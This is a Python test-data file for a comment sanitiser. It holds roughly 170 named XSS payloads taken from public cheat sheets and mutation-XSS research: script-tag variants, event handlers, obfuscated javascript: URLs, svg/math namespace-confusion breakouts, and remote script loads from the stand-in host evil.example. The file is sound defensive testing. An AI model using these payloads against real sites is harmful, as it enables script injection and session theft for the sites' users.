"""XSS vectors for the comment sanitiser, from public cheat sheets and mutation-XSS research.

Sources (shapes, not copies): the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger
Cross-site scripting cheat sheet, Heiderich et al. "mXSS Attacks" (CCS 2013), the DOMPurify
bypasses by Michał Bentkowski and Gareth Heyes (namespace confusion through svg, math, mglyph,
noscript and style), and the html5lib / bleach test suites. Each vector is a comment body as an
author could type it; `id` is a short, stable name used as the pytest id.
"""

from typing import NamedTuple


class Vector(NamedTuple):
    id: str
    payload: str


B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"  # <svg onload=alert(1)>

XSS_VECTORS: list[Vector] = [
    # --- script tags: casing, broken and nested forms, NUL bytes ---
    Vector("script", "<script>alert(1)</script>"),
    Vector("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    Vector("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    Vector("script-src", "<script src=//evil.example/x.js></script>"),
    Vector("script-slash-attr", '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>'),
    Vector("script-unclosed", "<script>alert(1)"),
    Vector("script-no-close-bracket", "<SCRIPT SRC=http://evil.example/xss.js?< B >"),
    Vector("script-double-lt", '<<SCRIPT>alert("XSS");//<</SCRIPT>'),
    Vector("script-nested-name", "<<script>script>alert(1)<</script>/script>"),
    Vector("script-split-name", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    Vector("script-nul-in-name", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    Vector("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
    Vector("script-inside-p", "<p>hello <script>alert(1)</script> world</p>"),
    Vector("script-in-code", "<code><script>alert(1)</script></code>"),
    Vector("script-in-pre", "<pre>x\n<script>alert(1)</script>\ny</pre>"),
    Vector("script-fullwidth", "＜script＞alert(1)＜/script＞"),
    Vector("script-utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    Vector("script-escaped-unicode", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    # --- event handlers on disallowed and on allowed tags ---
    Vector("img-onerror", "<img src=x onerror=alert(1)>"),
    Vector("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    Vector("img-slash-separators", "<img/src=x/onerror=alert(1)>"),
    Vector("img-backtick-handler", "<img src=x onerror=`alert(1)`>"),
    Vector("img-nul-in-handler", "<img src=x o\x00nerror=alert(1)>"),
    Vector("img-javascript-src", "<IMG SRC=\"javascript:alert('XSS');\">"),
    Vector("img-backtick-src", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    Vector("img-malformed-quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    Vector("img-half-open", "<IMG SRC=\"javascript:alert('XSS')\""),
    Vector("img-srcset", '<img srcset="x 1x, javascript:alert(1) 2x" onerror=alert(1)>'),
    Vector("a-onmouseover", '<a onmouseover="alert(1)">hover me</a>'),
    Vector("a-href-and-onclick", '<a href="https://ok.example/" onclick="alert(1)">x</a>'),
    Vector("a-mailto-onclick", '<a href="mailto:a@ok.example" onclick="alert(1)">mail</a>'),
    Vector("p-onclick", '<p onclick="alert(1)">click</p>'),
    Vector("b-style", '<b style="background:url(javascript:alert(1))">bold</b>'),
    Vector("strong-autofocus", "<strong tabindex=1 autofocus onfocus=alert(1)>x</strong>"),
    Vector("em-id-class", '<em id="x" class="y" data-x="z" onmouseenter=alert(1)>e</em>'),
    Vector("blockquote-cite", '<blockquote cite="javascript:alert(1)" onmouseover=alert(1)>q'),
    Vector("li-onclick", '<ul style="x:expression(alert(1))"><li onclick=alert(1)>a</li></ul>'),
    Vector("code-onmouseover", "<code onmouseover=alert(1)>c</code>"),
    Vector("br-onload", "a<br onload=alert(1)>b"),
    Vector("p-style-expression", '<p style="width: expression(alert(1))">x</p>'),
    # --- attribute breaking: quotes, backticks, missing spaces ---
    Vector("attr-no-space", '<a href="https://ok.example/"onmouseover="alert(1)">x</a>'),
    Vector(
        "attr-single-quotes", "<a title='x' onmouseover='alert(1)' href='https://ok.example'>x</a>"
    ),
    Vector("attr-unquoted", "<a href=https://ok.example/ onmouseover=alert(1)>x</a>"),
    Vector(
        "attr-title-closes-a",
        '<a title="</a><script>alert(1)</script>" href="https://ok.example">x</a>',
    ),
    Vector("attr-malformed-a", '<a """><script>alert(1)</script>">'),
    Vector("attr-backtick-href", "<a href=`javascript:alert(1)`>x</a>"),
    Vector("attr-duplicate-href", '<a href="https://ok.example" href="javascript:alert(1)">x</a>'),
    Vector("attr-rel-target", '<a href="https://ok.example" rel="opener" target="_blank">x</a>'),
    Vector("attr-dom-clobbering", '<a id="CONFIG" name="CONFIG" href="https://ok.example">x</a>'),
    Vector("attr-unclosed-p", "<p onclick=alert(1)"),
    # --- javascript: URLs: case, whitespace, control characters, entities ---
    Vector("js-href", '<a href="javascript:alert(1)">x</a>'),
    Vector("js-href-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    Vector("js-href-unquoted", "<a href=javascript:alert(1)>x</a>"),
    Vector("js-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    Vector("js-leading-control", '<a href="&#14;  javascript:alert(1)">x</a>'),
    Vector("js-raw-control", '<a href="\x01\x02javascript:alert(1)">x</a>'),
    Vector("js-raw-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    Vector("js-raw-newline", '<a href="java\nscript:alert(1)">x</a>'),
    Vector("js-raw-nul", '<a href="java\x00script:alert(1)">x</a>'),
    Vector("js-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    Vector("js-entity-newline", '<a href="java&#x0A;script:alert(1)">x</a>'),
    Vector("js-entity-cr", '<a href="java&#x0D;script:alert(1)">x</a>'),
    Vector("js-named-tab-newline", '<a href="&Tab;java&NewLine;script&colon;alert(1)">x</a>'),
    Vector("js-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    Vector(
        "js-decimal",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    Vector(
        "js-decimal-no-semicolon",
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    ),
    Vector(
        "js-decimal-zero-padded",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    ),
    Vector(
        "js-hex",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;'
        'alert(1)">x</a>',
    ),
    Vector(
        "js-hex-no-semicolon",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A'
        '&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29">x</a>',
    ),
    Vector("js-hex-zero-padded", '<a href="&#x000006A;avascript:alert(1)">x</a>'),
    Vector("js-double-escaped", '<a href="javascript&amp;colon;alert(1)">x</a>'),
    Vector("js-zero-width", '<a href="java\u200bscript:alert(1)">x</a>'),
    Vector("js-line-separator", '<a href="\u2028javascript:alert(1)">x</a>'),
    Vector("js-escaped-unicode", '<a href="\\u006Aavascript:alert(1)">x</a>'),
    Vector("js-percent-colon", '<a href="javascript%3Aalert(1)">x</a>'),
    Vector("js-https-prefix-text", '<a href="https:javascript:alert(1)">x</a>'),
    Vector("vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    Vector("data-html-base64", f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>'),
    Vector("data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    Vector("data-svg", f'<a href="data:image/svg+xml;base64,{B64_SVG}">x</a>'),
    Vector("protocol-relative", '<a href="//evil.example/">x</a>'),
    Vector("protocol-relative-backslash", '<a href="\\\\evil.example/">x</a>'),
    Vector("xlink-href-on-a", '<a xlink:href="javascript:alert(1)">x</a>'),
    # --- text that looks like a link: linkify must not create a dangerous one ---
    Vector("text-javascript-url", "javascript:alert(1)"),
    Vector("text-javascript-host", "javascript://example.com/%0Aalert(1)"),
    Vector("text-javascript-www", "javascript:www.example.com"),
    Vector("text-data-url", "data:text/html;base64," + B64_SCRIPT),
    Vector("text-url-quote-break", 'http://example.com/"onmouseover="alert(1)'),
    Vector("text-url-then-script", "https://example.com/<script>alert(1)</script>"),
    Vector("text-email-quoted-local", '"><img src=x onerror=alert(1)>"@example.com'),
    Vector("markdown-javascript", "[click](javascript:alert(1))"),
    Vector("markdown-data", "[x](data:text/html,<script>alert(1)</script>)"),
    # --- svg and MathML ---
    Vector("svg-onload", "<svg onload=alert(1)>"),
    Vector("svg-slash-onload", "<svg/onload=alert(1)>"),
    Vector("svg-script", "<svg><script>alert(1)</script></svg>"),
    Vector("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    Vector(
        "svg-xlink-href",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    ),
    Vector(
        "svg-animate-href",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) />"
        "<a id=x><text x=20 y=20>click</text></a></svg>",
    ),
    Vector(
        "svg-set-href",
        "<svg><a><set attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    ),
    Vector("svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{B64_SVG}#x"/></svg>'),
    Vector(
        "svg-foreignobject",
        "<svg><foreignObject><p><img src=x onerror=alert(1)></p></foreignObject></svg>",
    ),
    Vector("svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    Vector("svg-p-style-mxss", '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">'),
    Vector("svg-style-entities", "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>"),
    Vector("svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    Vector("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Vector(
        "math-mglyph-comment",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
        '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    ),
    Vector(
        "math-form-mglyph",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    Vector(
        "math-maction-xlink",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">'
        "CLICKME</maction></math>",
    ),
    Vector("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    # --- raw-text and RCDATA elements: breakouts through attribute values ---
    Vector("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Vector("noembed-mxss", '<noembed><img title="</noembed><img src onerror=alert(1)>">'),
    Vector("noframes-mxss", '<noframes><img title="</noframes><img src onerror=alert(1)>">'),
    Vector("style-mxss", '<style><img src="</style><img src=x onerror=alert(1)//">'),
    Vector("textarea-breakout", '<textarea><img title="</textarea><img src=x onerror=alert(1)>">'),
    Vector("title-breakout", '<title><img title="</title><img src=x onerror=alert(1)>">'),
    Vector("xmp-breakout", '<xmp><img title="</xmp><img src=x onerror=alert(1)>">'),
    Vector("iframe-breakout", '<iframe><img title="</iframe><img src=x onerror=alert(1)>">'),
    Vector("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    Vector("template", "<template><img src=x onerror=alert(1)></template>"),
    # --- frames, forms, plugins, document-level elements ---
    Vector("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    Vector("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    Vector("form-button-formaction", "<form><button formaction=javascript:alert(1)>x</button>"),
    Vector("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    Vector("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    Vector("input-image-formaction", '<input type="image" formaction="javascript:alert(1)">'),
    Vector("select-autofocus", "<select autofocus onfocus=alert(1)></select>"),
    Vector("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    Vector("object-data", '<object data="javascript:alert(1)"></object>'),
    Vector("object-data-base64", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
    Vector("embed-src", '<embed src="javascript:alert(1)">'),
    Vector("embed-svg", f'<EMBED SRC="data:image/svg+xml;base64,{B64_SVG}" type="image/svg+xml">'),
    Vector("base-href", '<base href="javascript:alert(1)//">'),
    Vector("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Vector("link-import", '<link rel="import" href="//evil.example/x.html">'),
    Vector("link-stylesheet", '<link rel=stylesheet href="javascript:alert(1)">'),
    Vector("style-import", "<style>@import 'http://evil.example/xss.css';</style>"),
    Vector("style-url", '<style>p{background:url("javascript:alert(1)")}</style>'),
    Vector("div-style-url", '<div style="background-image: url(javascript:alert(1))">x</div>'),
    Vector("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr>'),
    Vector("body-onload", "<body onload=alert(1)>"),
    Vector("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    Vector("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    Vector("audio-onerror", "<audio src=x onerror=alert(1)>"),
    Vector("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    # --- comments, conditional comments, CDATA ---
    Vector("comment-script", "<!-- <script>alert(1)</script> -->"),
    Vector("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    Vector("comment-downlevel-revealed", "<![if !IE]><img src=x onerror=alert(1)><![endif]>"),
    Vector("comment-abrupt-end", "<!--><img src=x onerror=alert(1)>-->"),
    Vector("comment-bang-end", "<!-- --!><img src=x onerror=alert(1)>-->"),
    Vector("comment-unclosed", "before <!-- <img src=x onerror=alert(1)>"),
    Vector("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    # --- nesting and the plain-text paragraph pass (runs before bleach) ---
    Vector(
        "nested-anchors", '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>'
    ),
    Vector("pre-img", "<pre><img src=x onerror=alert(1)></pre>"),
    Vector("pre-attr-blank-line", '<pre title="\n\n<img src=x onerror=alert(1)>">x</pre>'),
    Vector(
        "title-attr-blank-line",
        '<a title="a\n\n<img src=x onerror=alert(1)>" href="https://ok.example">x</a>',
    ),
    Vector("title-attr-pre", '<a title="<pre>" href="javascript:alert(1)">x</a>\n\n</pre>'),
    Vector("blank-line-in-tag", "<img\n\nsrc=x\n\nonerror=alert(1)>"),
]
